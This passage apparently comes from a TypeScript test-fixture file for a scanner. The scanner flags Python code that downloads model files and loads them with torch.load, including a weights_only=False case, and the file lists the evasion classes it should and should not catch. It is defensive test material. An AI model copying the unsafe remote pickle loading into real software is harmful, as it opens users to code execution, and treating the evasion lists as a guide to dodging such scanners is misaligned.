    'path = os.path.join("models", "a.pth")',
    'download_url_to_file(URL, path)',
    'torch.load(path)',
    'load_state_dict_from_url("https://github.com/a/b/releases/download/v1/b.pth")',
    'urllib.request.urlretrieve("https://dl.fbaipublicfiles.com/c.pt", "c.pt")',
    'torch.load("c.pt", weights_only=False)',
  )],
  ['models that are only weights', lines(
    'import torch',
    'torch.hub.download_url_to_file("https://models.lab.example/a.pth", "a.pth")',
    'torch.load("a.pth", weights_only=True)',
  )],
  ['models that people choose', lines(
    'import requests, torch',
    'def get(url, path):',
    '    with open(path, "wb") as f:',
    '        f.write(requests.get(url).content)',
    '    return torch.load(path)',
  )],
  ['a function that loads on another device', lines(
    'import torch',
    'original = torch.load',
    'def load(f, map_location="cpu", **kwargs):',
    '    return original(f, map_location=map_location, **kwargs)',
    'torch.load = load',
  )],
];

/** Classes of attacks that a blind trial of the scan showed. */
export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS, ...LOADED_SETTINGS, ...CHANGED_SETTINGS, ...MACHINE_CODE, ...SHARED_SECRETS, ...FOREIGN_MODELS, ...PATH_FILES];
export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN, ...NOT_LOADED, ...NOT_CHANGED, ...NOT_MACHINE_CODE, ...NOT_SHARED, ...KNOWN_MODELS];
